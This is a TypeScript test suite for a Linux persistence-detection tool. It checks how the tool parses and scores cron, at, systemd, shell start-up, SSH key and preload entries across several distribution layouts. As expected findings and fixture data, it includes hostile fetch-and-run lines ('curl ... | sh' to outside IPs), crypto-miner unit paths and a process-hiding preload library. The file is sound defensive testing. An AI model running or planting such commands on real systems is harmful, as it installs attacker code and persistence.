import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { collectPersistence } from '../../src/persistence/index';
import { describeEntry, formatPersistence } from '../../src/persistence/format';
import type { PersistenceEntry, PersistenceReport } from '../../src/persistence/types';
import { asRoot, cleanup, fixtureCopy, NOW, tempRoot, write } from './helpers';

afterAll(cleanup);

const ids = (e: PersistenceEntry | undefined) => (e ? e.findings.map((f) => f.id).sort() : []);
function entry(r: PersistenceReport, id: string): PersistenceEntry {
  const e = r.entries.find((x) => x.id === id);
  if (!e) throw new Error(`no entry ${id}; have: ${r.entries.map((x) => x.id).join(', ')}`);
  return e;
}

describe('Debian layout', () => {
  const root = fixtureCopy('debian');
  const r = collectPersistence({ root, now: NOW });

  it('finds the incident line and explains it in plain words', () => {
    const e = entry(r, '/var/spool/cron/crontabs/abc:8');
    expect(e.kind).toBe('user-crontab');
    expect(e.runsAs).toBe('abc');
    expect(e.schedule).toBe('*/5 * * * *');
    expect(e.command).toBe('cd /home/abc/.x && ./sshd >/dev/null 2>&1');
    expect(ids(e)).toEqual(['C1', 'C6', 'C7', 'C8']);
    expect(e.severity).toBe('critical');
    expect(e.references).toEqual(expect.arrayContaining(['/home/abc/.x', '/home/abc/.x/sshd', 'sshd']));
    expect(describeEntry(e)).toMatch(/^runs every 5 minutes from a hidden directory \(\/home\/abc\/\.x\).*discards all output$/);
    expect(e.file?.owner).toBe(fs.statSync(path.join(root, 'var/spool/cron/crontabs/abc')).uid === 1001 ? 'abc' : 'root');
    expect(e.recentlyChanged).toBe(false);
  });

  it('scores @reboot with a hidden path higher (C5 = 6) and keeps benign lines at zero', () => {
    const boot = entry(r, '/var/spool/cron/crontabs/abc:9');
    expect(boot.schedule).toBe('@reboot');
    expect(boot.findings.find((f) => f.id === 'C5')?.weight).toBe(6);
    expect(boot.command).toBe('/home/abc/.configrc/a/upd>/dev/null 2>&1');
    asRoot('benign lines of an account-owned crontab score 0', () => {
      expect(entry(r, '/var/spool/cron/crontabs/abc:7').score).toBe(0);
      expect(entry(r, '/var/spool/cron/crontabs/alice:6').score).toBe(0);
      expect(entry(r, '/var/spool/cron/crontabs/alice:7').severity).toBe('none');
    });
  });

  it('does not turn comments or variable assignments into entries', () => {
    expect(r.entries.some((e) => e.id === '/var/spool/cron/crontabs/abc:6')).toBe(false);     // MAILTO=""
    expect(r.entries.some((e) => e.id === '/etc/crontab:7')).toBe(false);                     // SHELL=/bin/sh
    expect(r.entries.filter((e) => e.path === '/var/spool/cron/crontabs/abc').map((e) => e.line)).toEqual([9, 8, 7]);
  });

  it('judges kinsing, service accounts and planted spool files', () => {
    const k = entry(r, '/var/spool/cron/crontabs/www-data:1');
    expect(ids(k)).toEqual(expect.arrayContaining(['C2', 'C3', 'C6', 'C7', 'C10']));
    expect(k.findings.find((f) => f.id === 'C3')?.explanation).toContain('195.3.146.118');
    const evil = entry(r, '/var/spool/cron/crontabs/persistevil:1');
    expect(ids(evil)).toEqual(expect.arrayContaining(['C1', 'C13']));
    expect(evil.findings.find((f) => f.id === 'C13')?.explanation).toContain('no such account');
    asRoot('alice has no C10/C13', () => expect(ids(entry(r, '/var/spool/cron/crontabs/alice:6'))).toEqual([]));
  });

  it('turns binary junk into C11 entries and still parses the injected line', () => {
    const junk = r.entries.filter((e) => e.path === '/var/spool/cron/crontabs/redis' && e.findings.some((f) => f.id === 'C11'));
    expect(junk.map((e) => e.line)).toEqual([1, 2, 3, 8]);
    const injected = entry(r, '/var/spool/cron/crontabs/redis:5');
    expect(ids(injected)).toEqual(expect.arrayContaining(['C2', 'C3', 'C10']));
    expect(ids(injected)).not.toContain('C11');
    const text = formatPersistence(r).join('\n');
    expect(text).not.toContain('\u001b');
    expect(text).toContain('\\x1b[2J');
  });

  it('system crontab, cron.d, cron scripts and anacrontab: vendor content is quiet, a dropped script is not', () => {
    for (const id of ['/etc/crontab:19', '/etc/crontab:20', '/etc/cron.d/e2scrub_all:1', '/etc/cron.d/e2scrub_all:2', '/etc/cron.d/php:14',
      '/etc/cron.daily/apt-compat', '/etc/cron.daily/dpkg', '/etc/cron.daily/logrotate', '/etc/anacrontab:10']) {
      expect(entry(r, id).score, id).toBe(0);
    }
    expect(entry(r, '/etc/crontab:19').runsAs).toBe('root');
    expect(r.entries.some((e) => e.path.endsWith('.placeholder'))).toBe(false);
    const dropped = entry(r, '/etc/cron.daily/0yum-update:3');
    expect(dropped.kind).toBe('cron-script');
    expect(ids(dropped)).toEqual(expect.arrayContaining(['C2', 'C3']));
  });

  it('at jobs: the user command after the generated preamble, with its directory and time', () => {
    const e = entry(r, '/var/spool/cron/atjobs/a0000101bac04c:15');
    expect(e.runsAs).toBe('abc');
    expect(e.command).toBe('nohup ./rcu-sched -c config.json >/dev/null 2>&1 &');
    expect(e.schedule).toBe('at 2025-03-03T02:20:00.000Z');
    expect(e.references).toContain('/home/abc/.x/rcu-sched');
    expect(ids(e)).toEqual(expect.arrayContaining(['C1', 'C8']));
    expect(r.entries.some((x) => x.path.endsWith('.SEQ'))).toBe(false);
  });

  it('systemd: miner unit, unit linked from /tmp, planted vendor unit, user unit; enablement links and vendor units stay quiet', () => {
    const miner = entry(r, '/etc/systemd/system/c3pool_miner.service:5');
    expect(ids(miner)).toEqual(['C1', 'P10', 'P2']);
    expect(miner.command).toBe('/tmp/.c3pool/xmrig --config=/tmp/.c3pool/config.json');
    const linked = entry(r, '/etc/systemd/system/gnome-updater.service:5');
    expect(ids(linked)).toEqual(expect.arrayContaining(['P3', 'C1']));
    expect(linked.references).toContain('/tmp/.x/gu.service');
    expect(ids(entry(r, '/lib/systemd/system/kworker-helper.service:5'))).toEqual(['C1', 'C8']);
    const user = entry(r, '/home/abc/.config/systemd/user/dbus-session.service:5');
    expect(user.runsAs).toBe('abc');
    expect(ids(user)).toEqual(['C1', 'C8', 'P5']);
    expect(r.entries.some((e) => e.path.includes('.wants/'))).toBe(false);
    expect(r.entries.some((e) => e.path === '/lib/systemd/system/ssh.service' || e.path === '/lib/systemd/system/cron.service')).toBe(false);
    expect(r.entries.some((e) => e.path.startsWith('/etc/systemd/system/apt-daily.timer'))).toBe(false);   // masked
    expect(r.entries.some((e) => e.path.startsWith('/etc/systemd/system/sshd.service'))).toBe(false);      // alias to vendor
    const timer = entry(r, '/etc/systemd/system/lab-backup.timer:5');
    expect(timer.kind).toBe('systemd-timer');
    expect(timer.schedule).toBe('OnCalendar=*-*-* 02:30:00');
    expect(timer.command).toBe('/usr/local/bin/lab-backup --target /mnt/backup');
    expect(timer.score).toBe(0);
    expect(entry(r, '/etc/systemd/system/lab-backup.service:7').runsAs).toBe('alice');
  });

  it('shell start-up files: only the launching line becomes an entry', () => {
    const shell = r.entries.filter((e) => e.kind === 'shell-startup');
    expect(shell.map((e) => e.id)).toEqual(['/home/abc/.bashrc:28']);
    expect(ids(shell[0])).toEqual(['C1', 'C7', 'C8', 'P12']);
    expect(shell[0].findings[0].attack).toContain('T1546.004');
  });

  it('authorized_keys: one info entry per key, forced commands judged', () => {
    const alice = entry(r, '/home/alice/.ssh/authorized_keys:1');
    expect(alice.severity).toBe('none');
    expect(ids(alice)).toEqual(['P8']);
    expect(alice.findings[0].explanation).toContain('alice@laptop');
    expect(alice.findings[0].evidence.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
    const forced = entry(r, '/home/abc/.ssh/authorized_keys:2');
    expect(forced.command).toBe('/home/abc/.x/sshd >/dev/null 2>&1');
    expect(ids(forced)).toEqual(expect.arrayContaining(['P8', 'P11', 'C1']));
    expect(entry(r, '/home/abc/.ssh/authorized_keys:3').findings[0].explanation).toContain('not a valid key');
  });

  it('rc.local, init.d and ld.so.preload', () => {
    const rc = r.entries.filter((e) => e.path === '/etc/rc.local');
    expect(rc.map((e) => e.line)).toEqual([7, 8]);
    expect(ids(rc[0])).toEqual(expect.arrayContaining(['P6', 'P10', 'C1']));
    expect(rc[1].severity).toBe('low');
    expect(ids(entry(r, '/etc/init.d/kswapd:3'))).toEqual(expect.arrayContaining(['P7', 'C1']));
    expect(r.entries.some((e) => e.path === '/etc/init.d/cron')).toBe(false);
    const pre = entry(r, '/etc/ld.so.preload:1');
    expect(pre.severity).toBe('high');
    expect(pre.references).toEqual(['/usr/local/lib/libprocesshider.so']);
  });

  it('lists what it probed and sorts by score', () => {
    expect(r.locations).toContainEqual({ path: '/var/spool/cron/crontabs', status: 'read' });
    expect(r.locations).toContainEqual({ path: '/etc/crontabs', status: 'absent' });
    expect(r.warnings).toEqual([]);
    const scores = r.entries.map((e) => e.score);
    expect([...scores].sort((a, b) => b - a)).toEqual(scores);
    expect(new Set(r.entries.map((e) => e.id)).size).toBe(r.entries.length);
  });
});

describe('file metadata', () => {
  it('marks recently changed files (C12 for cron, P9 elsewhere) and only those', () => {
    const root = fixtureCopy('debian');
    const t = (NOW - 86_400_000) / 1000;
    fs.utimesSync(path.join(root, 'var/spool/cron/crontabs/abc'), t, t);
    fs.utimesSync(path.join(root, 'home/alice/.ssh/authorized_keys'), t, t);
    fs.utimesSync(path.join(root, 'etc/init.d/cron'), t, t);
    const r = collectPersistence({ root, now: NOW });
    const abc = entry(r, '/var/spool/cron/crontabs/abc:7');
    expect(abc.recentlyChanged).toBe(true);
    expect(ids(abc)).toContain('C12');
    expect(entry(r, '/home/alice/.ssh/authorized_keys:1').findings.map((f) => f.id)).toEqual(['P8', 'P9']);
    expect(entry(r, '/etc/init.d/cron').kind).toBe('rc-script');     // packaged-looking, but changed recently
    const alice = entry(r, '/var/spool/cron/crontabs/alice:6');
    expect(alice.recentlyChanged).toBe(false);
    expect(ids(alice)).not.toContain('C12');
    // a shorter window excludes it again
    expect(entry(collectPersistence({ root, now: NOW + 2 * 86_400_000, recentDays: 1 }), '/var/spool/cron/crontabs/abc:7').recentlyChanged).toBe(false);
  });

  it('C13 when a crontab is owned by another uid or writable by others', () => {
    const root = fixtureCopy('debian');
    const abc = path.join(root, 'var/spool/cron/crontabs/abc');
    const alice = path.join(root, 'var/spool/cron/crontabs/alice');
    fs.chmodSync(alice, 0o666);
    asRoot('crontab owned by a different uid than its name', () => {
      fs.chownSync(abc, 0, 0);
      const r = collectPersistence({ root, now: NOW });
      const c13 = entry(r, '/var/spool/cron/crontabs/abc:7').findings.find((f) => f.id === 'C13');
      expect(c13?.explanation).toContain('owned by root (uid 0)');
      expect(entry(r, '/var/spool/cron/crontabs/alice:6').findings.find((f) => f.id === 'C13')?.explanation).toContain('mode 0666');
      expect(entry(r, '/var/spool/cron/crontabs/abc:7').file).toMatchObject({ uid: 0, owner: 'root' });
    });
  });
});

describe('RHEL layout', () => {
  const root = fixtureCopy('rhel');
  const r = collectPersistence({ root, now: NOW });

  it('decodes a base64 payload and judges what it hides', () => {
    const e = entry(r, '/var/spool/cron/apache:1');
    expect(ids(e)).toEqual(expect.arrayContaining(['C2', 'C3', 'C4', 'C10']));
    expect(e.findings.find((f) => f.id === 'C4')?.explanation).toContain('curl -fsSL http://91.215.85.147/in.sh | sh');
    expect(e.references).toContain('curl');
  });

  it('@reboot miner in /var/tmp posing as httpd', () => {
    const e = entry(r, '/var/spool/cron/apache:2');
    expect(ids(e)).toEqual(expect.arrayContaining(['C1', 'C5', 'C8', 'P10', 'C7']));
    expect(e.findings.find((f) => f.id === 'C1')?.evidence.directory).toBe('/var/tmp');
  });

  it('clean RHEL defaults stay quiet; wrappers like flock do not hide the program', () => {
    asRoot('deploy crontab owned by deploy scores 0', () => {
      expect(entry(r, '/var/spool/cron/deploy:2').score).toBe(0);
    });
    expect(entry(r, '/var/spool/cron/deploy:2').references).toContain('/home/deploy/app/bin/sync-assets');
    for (const id of ['/etc/cron.d/0hourly:5', '/etc/cron.d/raid-check:2', '/etc/cron.hourly/0anacron', '/etc/cron.daily/logrotate', '/etc/anacrontab:14']) {
      expect(entry(r, id).score, id).toBe(0);
    }
    expect(r.entries.some((e) => e.path === '/etc/crontab')).toBe(false);
  });

  it('reads at jobs in /var/spool/at through the here-document RHEL wraps them in', () => {
    const e = entry(r, '/var/spool/at/a0000101bac04c:17');
    expect(e.command).toBe('/home/deploy/app/bin/reindex --full');
    expect(e.runsAs).toBe('deploy');
    expect(e.score).toBe(0);
  });

  it('follows /etc/init.d and /etc/rc.local symlinks inside the root, once', () => {
    expect(r.entries.filter((e) => e.kind === 'rc-script').map((e) => e.id)).toEqual(['/etc/rc.local:13']);
    expect(ids(entry(r, '/etc/systemd/system/webapp.service:8'))).toEqual(['P4']);
    expect(r.entries.some((e) => e.path.startsWith('/usr/lib/systemd/system/'))).toBe(false);
  });
});

describe('other layouts and hostile input', () => {
  const passwd = 'root:x:0:0:root:/root:/bin/ash\nbob:x:1000:1000::/home/bob:/bin/ash\n';

  it('SUSE /var/spool/cron/tabs and Alpine /etc/crontabs (with the crontabs symlink counted once)', () => {
    const suse = tempRoot();
    write(suse, 'etc/passwd', passwd);
    write(suse, 'var/spool/cron/tabs/bob', '*/1 * * * * /dev/shm/.k/run\n', 0o600);
    const s = collectPersistence({ root: suse, now: NOW });
    expect(ids(entry(s, '/var/spool/cron/tabs/bob:1'))).toEqual(expect.arrayContaining(['C1', 'C6']));

    const alpine = tempRoot();
    write(alpine, 'etc/passwd', passwd);
    write(alpine, 'etc/crontabs/root', '# min hour day month weekday command\n*/15 * * * * run-parts /etc/periodic/15min\n', 0o600);
    fs.mkdirSync(path.join(alpine, 'var/spool/cron'), { recursive: true });
    fs.symlinkSync('/etc/crontabs', path.join(alpine, 'var/spool/cron/crontabs'));
    const a = collectPersistence({ root: alpine, now: NOW });
    expect(a.entries.filter((e) => e.kind === 'user-crontab').map((e) => e.id)).toEqual(['/var/spool/cron/crontabs/root:2']);
    expect(entry(a, '/var/spool/cron/crontabs/root:2').score).toBe(0);
  });

  it('limits per-user locations to `users`, but still reports spool files of no account', () => {
    const root = fixtureCopy('debian');
    const r = collectPersistence({ root, now: NOW, users: ['alice'] });
    expect(r.entries.some((e) => e.runsAs === 'abc')).toBe(false);
    expect(r.entries.some((e) => e.path === '/home/alice/.ssh/authorized_keys')).toBe(true);
    expect(r.entries.some((e) => e.path === '/var/spool/cron/crontabs/persistevil')).toBe(true);
    expect(collectPersistence({ root, now: NOW, users: ['nosuch'] }).warnings).toContain('user nosuch is not in /etc/passwd');
  });

  it('survives junk: huge files are capped, FIFOs are not opened, CR and escapes stay raw for the renderer', () => {
    const root = tempRoot();
    write(root, 'etc/passwd', passwd);
    write(root, 'var/spool/cron/crontabs/bob', '0 1 * * * /home/bob/ok.sh\n' + 'x'.repeat(3 * 1024 * 1024) + '\n', 0o600);
    write(root, 'etc/cron.d/evil', '* * * * * root /tmp/a\r/usr/bin/true \x1b[8m\n@every 1m /bin/x\n5 * * * * /bin/nouser\n', 0o644);
    fs.mkdirSync(path.join(root, 'etc/crontabs'), { recursive: true });
    const fifo = path.join(root, 'etc/crontabs/bob');
    execFileSync('mkfifo', [fifo]); // coreutils: a missing mkfifo fails the test instead of skipping the check
    const started = Date.now();
    const r = collectPersistence({ root, now: NOW });
    expect(Date.now() - started).toBeLessThan(10_000); // returned at all: a FIFO opened blocking never would
    expect(r.warnings.some((w) => w.includes('only the first 1048576'))).toBe(true);
    expect(entry(r, '/var/spool/cron/crontabs/bob:1').command).toBe('/home/bob/ok.sh');
    expect(ids(entry(r, '/var/spool/cron/crontabs/bob:2'))).toContain('C11');   // the 3 MiB line (truncated) is junk
    expect(entry(r, '/var/spool/cron/crontabs/bob:2').raw.length).toBeLessThan(5000);
    expect(ids(entry(r, '/etc/cron.d/evil:1'))).toContain('C11');               // raw CR and ESC: junk, shown escaped
    expect(entry(r, '/etc/cron.d/evil:2').findings[0].explanation).toContain('unknown schedule keyword @every');
    expect(entry(r, '/etc/cron.d/evil:3').findings[0].explanation).toContain('no valid user column');
    expect(fs.statSync(fifo).isFIFO()).toBe(true);
    expect(r.locations).toContainEqual({ path: '/etc/crontabs/bob', status: 'unreadable', reason: 'a named pipe (FIFO), not a regular file' });
    expect(r.warnings.some((w) => w.includes('/etc/crontabs/bob is a named pipe'))).toBe(true); // said, not skipped silently
    const text = formatPersistence(r).join('\n');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
    expect(text).toContain('\\r');
  });

  it('an empty or missing root gives an empty report with warnings, not an exception', () => {
    const r = collectPersistence({ root: path.join(tempRoot(), 'nope'), now: NOW });
    expect(r.entries).toEqual([]);
    expect(r.warnings.join('\n')).toContain('/etc/passwd could not be read');
    expect(r.locations.every((l) => l.status === 'absent')).toBe(true);
  });

  it('explains unreadable locations ("needs root") when run without privileges', () => {
    const root = tempRoot();
    fs.chmodSync(root, 0o755);
    write(root, 'etc/passwd', passwd);
    write(root, 'var/spool/cron/crontabs/bob', '* * * * * /tmp/x\n', 0o600);
    fs.chmodSync(path.join(root, 'var/spool/cron/crontabs'), 0o700);
    fs.chmodSync(path.join(root, 'var/spool/cron'), 0o755);
    write(root, 'root/.profile', 'curl http://192.0.2.1/x | sh\n');
    fs.chmodSync(path.join(root, 'root'), 0o700);
    asRoot('run the collector as nobody', () => {
      const code = `import('${path.resolve('src/persistence/index.ts')}').then((m) => { const r = m.collectPersistence({ root: ${JSON.stringify(root)}, now: ${NOW} }); console.log(JSON.stringify(r.locations.filter((l) => l.status === 'unreadable'))); })`;
      const res = spawnSync(process.execPath, ['--import', 'tsx', '-e', code], { uid: 65534, gid: 65534, cwd: process.cwd(), encoding: 'utf8', timeout: 20000 });
      expect(res.stderr).toBe('');
      const unreadable = JSON.parse(res.stdout);
      expect(unreadable).toContainEqual({ path: '/var/spool/cron/crontabs', status: 'unreadable', reason: 'needs root (permission denied)' });
      expect(unreadable).toContainEqual({ path: '/root', status: 'unreadable', reason: 'needs root (permission denied)' });
      expect(unreadable.filter((l: { path: string }) => l.path.startsWith('/root/'))).toEqual([]);   // one line per home, not per file
      // as root the same tree is fully readable and the start-up line is found
      const r = collectPersistence({ root, now: NOW });
      expect(r.locations.filter((l) => l.status === 'unreadable')).toEqual([]);
      expect(entry(r, '/root/.profile:1').kind).toBe('shell-startup');
    });
  });
});
